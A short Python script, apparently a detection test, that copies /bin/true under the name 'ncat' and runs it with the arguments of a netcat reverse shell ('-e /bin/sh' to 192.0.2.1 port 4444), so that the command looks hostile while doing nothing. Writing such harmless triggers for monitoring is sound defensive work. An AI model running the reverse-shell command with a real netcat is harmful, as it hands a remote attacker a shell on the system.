"""Runs a copy of true under the name of netcat, as if it were to run a shell."""

import shutil
import subprocess
import tempfile
from pathlib import Path

with tempfile.TemporaryDirectory(dir="/opt") as directory:
    program = Path(directory, "ncat")
    shutil.copy("/bin/true", program)
    subprocess.run([program, "-e", "/bin/sh", "192.0.2.1", "4444"], check=True)
